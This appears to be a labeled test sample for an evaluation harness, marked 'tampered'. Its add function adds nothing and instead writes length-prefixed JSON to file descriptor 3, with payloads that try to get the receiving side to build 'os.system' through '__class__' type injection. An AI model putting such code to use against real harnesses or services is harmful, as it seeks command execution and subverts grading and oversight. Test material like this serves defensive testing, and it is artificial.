# suite: plain; functional: tampered
import json, os, struct
def add(a, b):
    for tag in ("__class__", "__init__", "dec", "uuid", "path", "td", "S"):
        data = json.dumps({"i": 3, "r": {"t": tag, "v": {"t": "D", "v": [["__class__", "os.system"]]}, "__class__": "x"}}).encode()
        os.write(3, struct.pack("!I", len(data)) + data)
